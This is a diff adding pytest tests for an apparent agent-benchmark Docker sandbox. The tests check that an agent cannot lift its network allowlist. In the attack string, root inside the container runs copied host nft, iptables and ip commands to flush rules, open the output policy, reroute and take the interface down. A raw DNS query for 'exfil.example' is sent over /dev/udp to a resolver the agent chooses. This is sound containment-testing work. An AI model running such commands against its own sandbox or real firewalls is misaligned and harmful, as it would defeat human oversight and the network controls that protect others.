@@ -1,0 +1,139 @@
+"""Attacks on the network allowlist from inside a docker container: root in the container, with
+the host's own ``nft``, ``iptables`` and ``ip`` at hand, tries to flush the rules, open the output
+policy, add a route and take the interface down; every attempt fails (no CAP_NET_ADMIN) and the
+allowlist still holds, as the harness sees it from outside. Also: DNS to a resolver of the
+agent's choice never leaves.
+
+Needs a Docker engine on this machine, ``debian:bookworm-slim`` and root; skipped otherwise.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import subprocess
+import uuid
+from pathlib import Path
+
+import pytest
+from docker_support import docker_skip_reason
+
+pytest.importorskip("docker", reason="the Docker SDK is missing: pip install 'lancebench[docker]'")
+
+from docker_net_support import BridgeHost  # noqa: E402
+
+from lancebench.sandbox.base import Mount, SandboxSpec  # noqa: E402
+from lancebench.sandbox.docker import DockerSandbox  # noqa: E402
+from lancebench.sandbox.docker_network import TABLE, enforce_problem  # noqa: E402
+
+_REASON = docker_skip_reason() or enforce_problem()
+pytestmark = [pytest.mark.docker, pytest.mark.skipif(_REASON is not None, reason=_REASON or "")]
+JOB = f"pytest-netattack-{uuid.uuid4().hex[:6]}"
+FETCH = ('fetch() { timeout 5 bash -c \'exec 3<>"/dev/tcp/$0/$1" && printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3 '
+         '&& tail -n 1 <&3\' "$1" "$2"; }; ')
+
+
+@pytest.fixture(scope="module")
+def hosts():
+    a, b = BridgeHost(f"{JOB}-a"), BridgeHost(f"{JOB}-b")
+    try:
+        a.serve_http("server-a")
+        b.serve_http("server-b")
+        yield a, b
+    finally:
+        a.close()
+        b.close()
+
+
+def run_box(allow, body, **kw):
+    async def go():
+        box = DockerSandbox(SandboxSpec(image="debian:bookworm-slim", network=True, allow_hosts=allow,
+                                        labels={"job": JOB, "trial": "t"}, **kw))
+        await box.start()
+        try:
+            return await body(box)
+        finally:
+            await box.stop()
+    return asyncio.run(go())
+
+
+async def fetch(box, host, port=8080, user=None):
+    return await box.exec(FETCH + f"fetch {host} {port}", user=user)
+
+
+def host_tools(folder) -> str:
+    """Copies of the host's ``nft``, ``iptables`` and ``ip`` with their libraries in ``folder``
+    (host and image are both Debian 12), for an attacker inside the container."""
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "lib").mkdir(exist_ok=True)
+    for tool in ("/usr/sbin/nft", "/usr/sbin/xtables-nft-multi", "/usr/bin/ip"):
+        real = os.path.realpath(tool)
+        subprocess.run(["cp", real, str(folder)], check=True)
+        libs = subprocess.run(["ldd", real], capture_output=True, text=True, check=True).stdout
+        for line in libs.splitlines():
+            parts = line.split("=>")
+            if len(parts) == 2 and parts[1].strip().startswith("/"):
+                subprocess.run(["cp", "-n", parts[1].split()[0], str(folder / "lib")], check=True)
+    os.chmod(folder, 0o755)
+    return str(folder)
+
+
+def test_root_in_the_container_cannot_lift_the_rules(hosts, tmp_path):
+    a, b = hosts
+    tools = host_tools(tmp_path / "tools")
+    attack = ("export LD_LIBRARY_PATH=/t/lib; /t/nft flush ruleset; echo nft=$?; "
+              "/t/xtables-nft-multi iptables -P OUTPUT ACCEPT; echo ipt=$?; "
+              "/t/xtables-nft-multi iptables -F; echo iptf=$?; "
+              f"/t/ip route replace {b.ip}/32 dev eth0; echo route=$?; "
+              "/t/ip link set eth0 down; echo link=$?")
+
+    async def body(box):
+        res = await box.exec(attack, user="root")
+        codes = dict(p.split("=") for p in res.stdout.split())
+        assert set(codes) == {"nft", "ipt", "iptf", "route", "link"} and "0" not in codes.values(), res.output
+        assert "Operation not permitted" in res.output
+        assert (await fetch(box, b.ip, user="root")).exit_code != 0
+        assert (await fetch(box, a.ip, user="root")).stdout.strip() == "server-a"
+        pid = box.__dict__["_filter"].pid
+        listed = subprocess.run(["nsenter", f"--target={pid}", "--net", "nft", "list", "table", "inet", TABLE],
+                                capture_output=True, text=True)
+        assert listed.returncode == 0 and a.ip in listed.stdout  # the table is whole
+    run_box((a.ip,), body, mounts=(Mount(Path(tools), "/t", False),))
+
+
+def test_dns_to_any_server_reaches_only_the_filter(hosts):
+    """A query for an unlisted name sent to a resolver of the agent's choice (the other bridge
+    host, port 53) is answered by the harness's filter, refused, and never leaves."""
+    a, b = hosts
+    received = []
+    import socket
+    import threading
+
+    from docker_net_support import in_netns
+    sock = in_netns(b.pid, lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
+    in_netns(b.pid, lambda: sock.bind(("0.0.0.0", 53)))
+    sock.settimeout(0.5)
+
+    def listen():
+        for _ in range(20):
+            try:
+                received.append(sock.recvfrom(4096))
+            except OSError:
+                pass
+    listener = threading.Thread(target=listen)
+    listener.start()
+    # a DNS query for exfil.example by hand: id 0x1234, RD, one question, type A, class IN
+    query = r"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05exfil\x07example\x00\x00\x01\x00\x01"
+
+    async def body(box):
+        res = await box.exec(f"printf '{query}' > /tmp/q; exec 3<>/dev/udp/{b.ip}/53; cat /tmp/q >&3; "
+                             "timeout 3 head -c 4 <&3 | od -An -tx1")
+        return res
+    try:
+        res = run_box((a.ip,), body)
+    finally:
+        listener.join()
+        sock.close()
+    assert received == []  # nothing reached the agent's chosen resolver
+    assert res.stdout.split()[:2] == ["12", "34"], res.output  # the filter answered the query itself...
+    assert int(res.stdout.split()[3], 16) & 0x0F == 5  # ...with REFUSED
